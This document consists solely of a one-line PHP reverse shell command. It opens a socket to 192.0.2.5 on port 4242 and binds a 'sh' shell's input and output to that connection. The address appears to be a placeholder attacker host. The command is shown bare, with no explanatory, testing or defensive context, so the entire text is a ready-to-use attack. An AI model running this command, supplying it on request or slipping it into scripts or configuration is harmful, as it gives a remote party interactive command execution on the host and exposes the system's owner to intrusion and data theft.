php -r '$sock=fsockopen("192.0.2.5",4242);exec("sh <&3 >&3 2>&3");'
